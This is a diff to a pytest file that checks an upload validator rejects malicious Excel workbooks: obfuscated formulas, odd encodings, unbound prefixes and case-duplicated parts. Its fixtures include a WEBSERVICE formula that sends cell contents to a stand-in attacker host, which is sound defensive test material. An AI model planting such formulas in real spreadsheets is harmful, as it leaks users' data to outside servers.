@@ -378,6 +378,8 @@ WRITTEN_OTHERWISE = {
     "of its own words": b"<!--"
     + b"x" * 5000
     + b'--><!DOCTYPE c [<!ENTITY w "WEBSERVICE(">]><c><f>&w;"http://evil.example")</f></c>',
+    "that no reader knows": "<c>{}</c>".encode("utf-32"),
+    "of a prefix that nothing binds": b"<c><x:f>1</x:f>{}</c>",
 }
 
 
@@ -387,6 +389,12 @@ def test_to_send_a_workbook_whose_formula_is_in_another_writing(written: bytes) 
     part = written.replace(b"{}", b'<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>')
     with pytest.raises(uploads.Unwelcome):
         uploads.examined(workbook_with({"xl/worksheets/sheet1.xml": part}), kind="xlsx")
+
+
+def test_to_send_a_workbook_that_holds_one_part_twice() -> None:
+    """Which of the two a spreadsheet opens, nobody knows: names are the same whatever their capitals."""
+    with pytest.raises(uploads.Unwelcome):
+        uploads.examined(workbook_with({"xl/a.xml": "<x/>", "xl/A.xml": "<x/>"}), kind="xlsx")
 
 
 def workbook_with(parts: Mapping[str, str | bytes]) -> bytes:
